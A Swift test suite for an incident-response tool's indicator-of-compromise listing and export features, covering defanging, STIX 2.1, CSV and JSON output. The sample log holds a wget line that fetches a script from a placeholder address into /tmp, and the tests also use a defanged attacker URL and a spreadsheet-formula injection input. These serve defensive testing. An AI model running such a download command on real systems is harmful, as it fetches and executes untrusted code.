import ConversationCore
import Foundation
@testable import IncidentREPLKit
import LLMClients
import LoopbackProvider
import Testing

@Suite("/iocs: indicators by kind and source, defanged; exported as CSV, JSON and a STIX 2.1 bundle")
struct IndicatorExportTests {
    static let log = """
        Nov 30 10:00:01 web01 sshd[811]: Accepted password for deploy from 203.0.113.45 port 52344 ssh2
        Nov 30 10:00:09 web01 bash[902]: wget http://198.51.100.7/x.sh -O /tmp/x.sh

        """

    /// A session that attaches a log, asks with a defanged URL and three technique IDs (one current,
    /// one ATT&CK revoked, one invented),
    /// and gets an answer naming an address nobody gave it; then lists and exports.
    static func run(in directory: TemporaryDirectory) async throws -> SessionHarness.Run {
        let path = directory.path + "/auth.log"
        writeFile(path, Array(log.utf8))
        let server = try LoopbackServer(handler: { _ in .stream(.openai, deltas: ["It may also reach 203.0.1.99."]) })
        defer { server.stop() }
        return try await SessionHarness.run(
            .openai,
            lines: [
                "/file \(path)",
                "Does this match T1059.004, T1086 or T9999? The report says hxxps://evil[.]example/gate.php",
                "/iocs",
                "/iocs ip",
                "/iocs --live url",
                "/iocs export \(directory.path)/case.stix.json",
                "/iocs export \(directory.path)/case.csv",
                "/iocs export --format json \(directory.path)/case.out",
                "/iocs export \(directory.path)/case.csv",
                "/iocs export \(directory.path)/missing/case.csv",
            ],
            server: server)
    }

    static func text(_ path: String) throws -> String {
        String(decoding: try fileBytes(path), as: UTF8.self)
    }

    @Test func iocsListsByKindDefangedWithSourcesAndMessagesAndModelOnlyApart() async throws {
        let directory = TemporaryDirectory()
        let run = try await Self.run(in: directory)
        #expect(run.session.failedTurns == 0, "\(run.stderr)")
        let listing = try #require(run.stdout.components(separatedBy: "You: /iocs\n").last?.components(separatedBy: "You: /iocs ip").first)
        let analyst = try #require(listing.components(separatedBy: "Mentioned only by the model").first)
        #expect(analyst.contains("203.0.113[.]45  (evidence auth.log; #1)"))
        #expect(analyst.contains("hxxp://198.51.100[.]7/x.sh"))
        #expect(analyst.contains("hxxps://evil[.]example/gate.php  (typed; #1)"))
        #expect(analyst.contains("T1059.004  Command and Scripting Interpreter: Unix Shell [Execution]"))
        #expect(!analyst.contains("203.0.113.45"))  // never shown live
        let flagged = try #require(analyst.components(separatedBy: "Not current ATT&CK techniques").last)
        #expect(flagged.contains("T9999  [not in the offline ATT&CK v18.1 table]  (typed; #1)"))
        #expect(flagged.contains("T1086  PowerShell [revoked by ATT&CK; now T1059.001 "
            + "Command and Scripting Interpreter: PowerShell]  (typed; #1)"))
        let modelOnly = try #require(listing.components(separatedBy: "Mentioned only by the model").last)
        #expect(modelOnly.contains("203.0.1[.]99  (model; #2)"))
        let ipOnly = try #require(run.stdout.components(separatedBy: "You: /iocs ip\n").last?.components(separatedBy: "You: /iocs --live").first)
        #expect(ipOnly.contains("203.0.113[.]45"))
        #expect(!ipOnly.contains("evil[.]example"))
        let live = try #require(run.stdout.components(separatedBy: "You: /iocs --live url\n").last?.components(separatedBy: "You: /iocs export").first)
        #expect(live.contains("https://evil.example/gate.php  (typed; #1)"))
    }

    @Test func theSTIXBundleHasValidObjectsPatternsAndTimestampsAndNoInventedOrModelOnlyIndicators() async throws {
        let directory = TemporaryDirectory()
        let run = try await Self.run(in: directory)
        let path = directory.path + "/case.stix.json"
        #expect(permissions(of: path) == 0o600)
        #expect(run.stdout.contains("wrote a STIX 2.1 bundle of"))
        #expect(run.stderr.contains("left out, not current ATT&CK techniques: T1086 (revoked; now T1059.001), T9999"))
        let json = try #require(try JSONSerialization.jsonObject(with: Data(fileBytes(path))) as? [String: Any])
        let uuid = "[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}"
        #expect(json["type"] as? String == "bundle")
        #expect((json["id"] as? String)?.wholeMatch(of: try Regex("bundle--" + uuid)) != nil)
        let objects = try #require(json["objects"] as? [[String: Any]])
        let timestamp = /[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}\.[0-9]{3}Z/
        // One comparison expression: `[object-path] = 'literal'` (with \' and \\ escapes), joined by AND.
        let comparison = #"[a-z0-9-]+:[A-Za-z0-9_.'-]+ = '(?:[^'\\]|\\.)*'"#
        let patternSyntax = try Regex(#"\["# + comparison + "(?: AND " + comparison + #")*\]"#)
        var patterns: [String] = []
        for object in objects {
            let type = try #require(object["type"] as? String)
            #expect(object["spec_version"] as? String == "2.1")
            #expect((object["id"] as? String)?.wholeMatch(of: try Regex(type + "--" + uuid)) != nil)
            for property in ["created", "modified"] {
                #expect((object[property] as? String)?.wholeMatch(of: timestamp) != nil, "\(property) of \(type)")
            }
            switch type {
            case "indicator":
                let pattern = try #require(object["pattern"] as? String)
                #expect(pattern.wholeMatch(of: patternSyntax) != nil, "\(pattern)")
                #expect(object["pattern_type"] as? String == "stix")
                #expect((object["valid_from"] as? String)?.wholeMatch(of: timestamp) != nil)
                patterns.append(pattern)
            case "attack-pattern":
                let references = try #require(object["external_references"] as? [[String: Any]])
                #expect(references.first?["source_name"] as? String == "mitre-attack")
                #expect(references.first?["external_id"] as? String == "T1059.004")
                #expect(object["name"] as? String == "Command and Scripting Interpreter: Unix Shell")
            default:
                Issue.record("unexpected object type \(type)")
            }
        }
        #expect(patterns.contains("[ipv4-addr:value = '203.0.113.45']"))
        #expect(patterns.contains("[url:value = 'https://evil.example/gate.php']"))
        #expect(patterns.contains("[file:name = 'x.sh' AND file:parent_directory_ref.path = '/tmp']"))
        let whole = try Self.text(path)
        #expect(!whole.contains("T9999") && !whole.contains("T1086"))
        #expect(!whole.contains("203.0.1.99"))
    }

    @Test func csvAndJSONExportsCarryTheAnalystsIndicatorsAndJSONListsTheRestApart() async throws {
        let directory = TemporaryDirectory()
        let run = try await Self.run(in: directory)
        let csv = try Self.text(directory.path + "/case.csv")
        #expect(permissions(of: directory.path + "/case.csv") == 0o600)
        let rows = csv.components(separatedBy: "\r\n")
        #expect(rows.first == "kind,value,defanged,source,evidence_files,first_seen_message,last_seen_message,attack_name,attack_tactics")
        #expect(rows.contains("ipv4,203.0.113.45,203.0.113[.]45,evidence,auth.log,1,1,,"))
        #expect(!csv.contains("T9999") && !csv.contains("T1086") && !csv.contains("203.0.1.99"))

        let json = try #require(try JSONSerialization.jsonObject(with: Data(fileBytes(directory.path + "/case.out"))) as? [String: Any])
        let flagged = try #require(json["flagged"] as? [[String: Any]])
        #expect(flagged.map { $0["value"] as? String } == ["T1086", "T9999"])
        #expect(flagged.map { $0["reason"] as? String } == [
            "revoked by ATT&CK; now T1059.001 Command and Scripting Interpreter: PowerShell",
            "not in the offline ATT&CK v18.1 table",
        ])
        let modelOnly = try #require(json["modelOnlyUnverified"] as? [[String: Any]])
        #expect(modelOnly.contains { $0["value"] as? String == "203.0.1.99" })
        let evidence = try #require((json["evidence"] as? [[String: Any]])?.first)
        #expect(evidence["sha256"] as? String == run.session.evidence.attached.first?.file.sha256)

        // An existing file is never overwritten; a missing folder is named.
        #expect(run.stderr.contains("case.csv already exists; not overwritten"))
        #expect(run.stderr.contains("the folder \(directory.path)/missing does not exist"))
    }

    @Test func csvCellsThatASpreadsheetWouldRunAreDefused() {
        #expect(IndicatorExporter.csvCell("=HYPERLINK(\"x\")") == "\"'=HYPERLINK(\"\"x\"\")\"")
        #expect(IndicatorExporter.csvCell("-cmd") == "'-cmd")
        #expect(IndicatorExporter.csvCell("plain") == "plain")
    }
}
